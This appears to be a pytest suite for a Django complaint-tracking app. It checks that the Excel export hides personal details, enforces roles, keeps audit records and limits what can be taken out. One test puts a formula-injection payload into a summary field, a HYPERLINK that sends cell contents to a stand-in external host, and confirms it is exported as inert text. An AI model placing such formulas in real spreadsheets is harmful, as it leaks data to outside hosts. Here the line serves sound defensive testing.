"""The list of complaints as a workbook: the rows of the list, the released version only, nothing that a sheet could run."""

from collections.abc import Iterator
from datetime import date, datetime
from io import BytesIO
from typing import Any
from unittest import mock

import pytest
from django.core.cache import cache
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from accounts import clock
from accounts.models import AuditRecord, Department, Division, User
from accounts.permissions import Role
from supervision.complaints import export, handling, receiving
from supervision.complaints.models import Complaint
from supervision.complaints.receiving import Said
from tests import build

NOW = build.at("2026-10-23 09:42")
NAME, PHONE, TEXT = "王镈", "13904521987", "两次去 6 号窗口问都说领导没签字，我叫王镈。"
pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def clean_and_now() -> Iterator[None]:
    cache.clear()
    with (
        mock.patch.object(clock, "now", return_value=NOW),
        mock.patch.object(clock, "today", return_value=NOW.date()),
    ):
        yield


def _taken(department: str = "housing", **changes: Any) -> Complaint:
    said = {
        "division": Division.objects.get(pk="230622"),
        "department": Department.objects.get(division_id="230622", code=department),
        "kind": "delay", "text": TEXT, "name": NAME, "phone": PHONE, "about_project": "机密项目乙",
    }  # fmt: skip
    token = f"t{Complaint.objects.count()}"
    return receiving.receive(said=Said(**(said | changes)), token=token, at=NOW).complaint


def _client(person: User) -> Client:
    client = Client()
    client.force_login(person, backend="django.contrib.auth.backends.ModelBackend")
    return client


def _rows(client: Client, **asked: str) -> list[dict[str, Any]]:
    answer = client.get(reverse("complaints:export"), asked)
    assert answer.status_code == 200
    assert "attachment" in answer["Content-Disposition"]
    assert "no-store" in answer["Cache-Control"]
    sheet = load_workbook(BytesIO(answer.content)).active
    lines = [[cell.value for cell in line] for line in sheet.iter_rows()]
    head = next(n for n, line in enumerate(lines) if line[0] == "编号")
    keys = [column.key for column in export.COLUMNS]
    return [dict(zip(keys, line, strict=True)) for line in lines[head + 1 :] if str(line[0]).startswith("TS")]


def _assigned(person: User, summary: str, handler: Department | None = None, **changes: Any) -> Complaint:
    row = _taken(**changes)
    handling.accept(complaint=row, by=person, at=NOW)
    return handling.assign(complaint=row, summary=summary, handler=handler, sure=True, by=person, at=NOW)


def test_the_workbook_is_the_list_in_the_released_version() -> None:
    city = build.user("x-city", division="230600")
    _taken(kind="promise")
    _assigned(city, "反映申请事项长期未办结。")
    client = _client(city)
    rows = _rows(client)
    assert [row["number"] for row in rows] == ["TS202610-0002", "TS202610-0001"]
    assert [row["summary"] for row in rows] == ["反映申请事项长期未办结。", "—"]
    assert [row["handler"] for row in rows] == ["受理部门直接办理", "—"]
    assert (rows[0]["signed"], rows[0]["state"], rows[0]["late"]) == ("实名", "办理中", "—")
    assert rows[0]["received_on"] in (date(2026, 10, 23), datetime(2026, 10, 23))  # noqa: DTZ001 - a cell has no zone
    told = str(rows)
    assert not [secret for secret in (NAME, PHONE, "6 号窗口", "机密项目乙") if secret in told]
    assert [row["number"] for row in _rows(client, state="assigned")] == ["TS202610-0002"]
    assert [row["number"] for row in _rows(client, kind="promise")] == ["TS202610-0001"]
    assert _rows(client, show="late") == []
    page = client.get(reverse("complaints:list"), {"kind": "promise"}).content.decode()
    assert f"{reverse('complaints:export')}?kind=promise" in page


def test_what_begins_like_a_formula_stays_text() -> None:
    city = build.user("x-city", division="230600")
    _assigned(city, '=HYPERLINK("http://x.example/?"&A1,"开")')
    answer = _client(city).get(reverse("complaints:export"))
    book = load_workbook(BytesIO(answer.content))
    cells = [cell for line in book.active.iter_rows() for cell in line if "HYPERLINK" in str(cell.value)]
    assert [(cell.data_type, cell.quotePrefix) for cell in cells] == [("s", True)]


def test_a_handlers_row_tells_no_more_than_the_handlers_page() -> None:
    """肇源县's office handles a complaint for the city: neither the day nor whether it was signed."""
    city, county = build.user("x-city", division="230600"), build.user("x-county", division="230622")
    water = Department.objects.get(division_id="230622", code="water")
    office = next(d for d in Department.objects.filter(division_id="230622") if "competent" in d.duties)
    _assigned(city, "反映申请事项长期未办结。", handler=office)
    _assigned(city, "反映窗口推诿。", handler=water)
    rows = _rows(_client(county), show="all")
    assert [row["summary"] for row in rows] == ["反映申请事项长期未办结。"]
    assert {rows[0][key] for key in export.OFFICE_ONLY} == {"—"}
    table = (
        _client(county).get(reverse("complaints:list"), {"show": "all"}).content.decode().split("tbody>")[1]
    )
    assert "反映" not in table  # the list has no words of it at all
    assert rows[0]["number"] in table
    assert not [word for word in ("实名", "匿名", "网上", "2026-10-23") if word in table]
    assert _rows(_client(county), show="all", channel="web") == []  # nor does the filter tell the way
    assert len(_rows(_client(city), show="all", channel="web")) == 2
    assert all(_rows(_client(city))[1][key] for key in ("received_on", "channel", "signed"))


def test_it_is_on_record_who_took_what_out_but_not_what_was_searched() -> None:
    city = build.user("x-city", division="230600")
    _taken()
    _rows(_client(city), show="all", q=NAME)
    _rows(_client(city))
    records = AuditRecord.objects.filter(action="complaints_exported").order_by("pk")
    assert [one.after for one in records] == [
        {"show": "all", "searched": True, "exported": 0},
        {"exported": 1},
    ]
    assert {(one.actor_id, one.city_code, one.county_code) for one in records} == {(city.pk, "230600", "")}


@pytest.mark.parametrize(
    ("role", "division", "department"),
    [
        (Role.SERVICE_SPECIALIST, "230622", "water"),
        (Role.LEAD_DEPARTMENT, "230622", "housing"),
        (Role.PROMOTION_OFFICE, "230600", ""),
        (Role.DISCIPLINE_OFFICE, "230600", ""),
        (Role.AUDITOR, "230600", ""),
        (Role.ADMINISTRATOR, "230600", ""),
    ],
)
def test_others_are_refused_and_nothing_is_recorded(role: str, division: str, department: str) -> None:
    _taken()
    person = build.user("x-other", role, division, department=department)
    answer = _client(person).get(reverse("complaints:export"))
    assert answer.status_code == 403
    page = _client(person).get(reverse("complaints:list")).content.decode()
    assert reverse("complaints:export") not in page
    assert not AuditRecord.objects.filter(action="complaints_exported").exists()


def test_neither_head_nor_post_nor_too_many_rows_take_anything_out() -> None:
    city = build.user("x-city", division="230600")
    for _n in range(3):
        _taken()
    client, url = _client(city), reverse("complaints:export")
    assert (client.head(url).status_code, client.post(url).status_code) == (405, 405)
    with mock.patch.object(export, "MOST", 2):
        answer = client.get(url, {"kind": "delay"}, follow=True)
    assert answer.redirect_chain == [(f"{reverse('complaints:list')}?kind=delay", 302)]
    assert "请缩小筛选范围" in answer.content.decode()
    assert not AuditRecord.objects.filter(action="complaints_exported").exists()
